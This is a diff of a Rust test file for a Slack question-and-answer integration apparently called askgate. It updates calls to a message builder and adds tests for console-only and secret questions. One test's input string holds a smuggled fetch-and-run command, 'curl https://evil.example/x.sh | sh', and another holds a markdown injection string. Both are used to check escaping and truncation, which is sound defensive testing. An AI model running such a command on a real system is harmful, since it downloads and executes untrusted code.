@@ -73,7 +73,10 @@ fn user_text_neither_links_nor_formats() {
         .labels
         .insert("env".into(), "prod` *injected* `".into());
     let mut all = Vec::new();
-    for message in [question_message(&at(), &asked), answer_modal(&at(), &asked)] {
+    for message in [
+        question_message(&at(), &asked, None),
+        answer_modal(&at(), &asked),
+    ] {
         mrkdwn_objects(&message, &mut all);
     }
     assert!(!all.is_empty());
@@ -102,7 +105,7 @@ fn a_long_detail_shows_its_end() {
         "{}; curl https://evil.example/x.sh | sh",
         "x".repeat(10_000)
     ));
-    let message = question_message(&at(), &requested(vec![q]));
+    let message = question_message(&at(), &requested(vec![q]), None);
     let mut all = Vec::new();
     mrkdwn_objects(&message, &mut all);
     let detail = all
@@ -127,12 +130,12 @@ fn action_and_block_ids_are_unique_where_slack_requires() {
     for options in [0, 2, 10, 11, 30, 100] {
         for multi in [false, true] {
             let asked = requested(vec![shape(options, multi)]);
-            messages.push(question_message(&at(), &asked));
+            messages.push(question_message(&at(), &asked, None));
             messages.push(answer_modal(&at(), &asked));
         }
     }
     let batch = requested((0..20).map(|_| shape(3, false)).collect());
-    messages.push(question_message(&at(), &batch));
+    messages.push(question_message(&at(), &batch, None));
     messages.push(answer_modal(&at(), &batch));
     fn assert_unique<'a>(ids: impl Iterator<Item = &'a str>, what: &str, in_: &Value) {
         let mut seen = std::collections::HashSet::new();
@@ -178,20 +181,25 @@ fn refs_round_trip_and_refuse_anything_else() {
 
 #[test]
 fn single_select_is_buttons_multi_select_is_checkboxes_and_batches_a_form() {
-    let single = question_message(&at(), &requested(vec![question("Deploy?", &["yes", "no"])]));
+    let single = question_message(
+        &at(),
+        &requested(vec![question("Deploy?", &["yes", "no"])]),
+        None,
+    );
     assert_eq!(
         actions(&single),
         ["askgate.choose.0", "askgate.choose.1", OPEN, CANCEL]
     );
     let mut multi = question("Which checks?", &["lint", "tests"]);
     multi.multi_select = true;
-    let multi = question_message(&at(), &requested(vec![multi]));
+    let multi = question_message(&at(), &requested(vec![multi]), None);
     assert_eq!(actions(&multi), [CHECKS, SUBMIT, OPEN, CANCEL]);
-    let free = question_message(&at(), &requested(vec![question("Why?", &[])]));
+    let free = question_message(&at(), &requested(vec![question("Why?", &[])]), None);
     assert_eq!(actions(&free), [OPEN, CANCEL]);
     let batch = question_message(
         &at(),
         &requested(vec![question("One?", &["a"]), question("Two?", &["b"])]),
+        None,
     );
     assert_eq!(actions(&batch), [OPEN, CANCEL]);
     let modal = answer_modal(
@@ -217,7 +225,7 @@ fn messages_and_forms_keep_to_slacks_block_caps() {
             q
         })
         .collect();
-    let message = question_message(&at(), &requested(many.clone()));
+    let message = question_message(&at(), &requested(many.clone()), None);
     let blocks = message["blocks"].as_array().expect("blocks");
     assert!(
         blocks.len() <= MAX_MESSAGE_BLOCKS,
@@ -244,7 +252,7 @@ fn a_plan_review_shows_the_plan_and_marks_the_approve_option() {
             approve: "Approve".into(),
         })),
     });
-    let message = question_message(&at(), &requested(vec![review])).to_string();
+    let message = question_message(&at(), &requested(vec![review]), None).to_string();
     assert!(message.contains("*The plan to review*\\n```1. migrate\\n2. deploy```"));
     assert!(message.contains("• *Approve* _(approves the plan)_"));
     assert!(message.contains(r#""style":"primary""#));
@@ -256,6 +264,7 @@ fn user_text_is_escaped_and_cut() {
     let message = question_message(
         &at(),
         &requested(vec![question("<!channel> & <@U1>?", &[long.as_str()])]),
+        None,
     );
     let text = message.to_string();
     assert!(text.contains("&lt;!channel&gt; &amp; &lt;@U1&gt;?"));
@@ -299,4 +308,64 @@ fn a_resolved_message_says_who_answered_what_and_has_no_controls() {
         text.contains("Cancelled by ana@acme: not &lt;today&gt;"),
         "{text}"
     );
+}
+
+#[test]
+fn an_ask_slack_may_not_answer_links_to_the_console_instead_of_controls() {
+    let mut console_only = requested(vec![question("Deploy?", &["yes", "no"])]);
+    console_only.allowed_channels = vec!["console".into()];
+    let mut secret = requested(vec![question("The one-time code?", &[])]);
+    secret.questions[0].secret = true;
+    let mut slack_too = requested(vec![question("Deploy?", &["yes", "no"])]);
+    slack_too.allowed_channels = vec!["console".into(), "slack".into()];
+    assert!(answerable_in_slack(&slack_too));
+    for asked in [console_only, secret] {
+        assert!(!answerable_in_slack(&asked));
+        let message = question_message(
+            &at(),
+            &asked,
+            Some("https://askgate.example/console/#/inbox"),
+        );
+        let blocks = message["blocks"].as_array().expect("blocks");
+        assert!(
+            blocks.iter().all(|b| b["type"] != "actions"),
+            "no controls: {message}"
+        );
+        let last = blocks.last().expect("a block")["text"]["text"]
+            .as_str()
+            .expect("text");
+        assert!(
+            last.contains("<https://askgate.example/console/#/inbox|Open the askgate console>"),
+            "{last}"
+        );
+    }
+}
+
+#[test]
+fn a_secret_answer_is_never_shown_in_the_channel() {
+    let mut asked = requested(vec![question("Go?", &["yes"]), question("Code?", &[])]);
+    asked.questions[1].secret = true;
+    asked.questions[1].id = "code".into();
+    let resolved = Resolved {
+        rpc_id: asked.rpc_id.clone(),
+        reason: Resolution::Answered.into(),
+        answers: vec![
+            QuestionAnswer {
+                id: asked.questions[0].id.clone(),
+                selected: vec!["yes".into()],
+                custom: None,
+            },
+            QuestionAnswer {
+                id: asked.questions[1].id.clone(),
+                selected: Vec::new(),
+                custom: Some("493021".into()),
+            },
+        ],
+        resolved_by: "ana".into(),
+        ..Default::default()
+    };
+    let message = resolved_message(&asked, &resolved).to_string();
+    assert!(!message.contains("493021"), "{message}");
+    assert!(message.contains("(secret)"), "{message}");
+    assert!(message.contains("*yes*"), "{message}");
 }
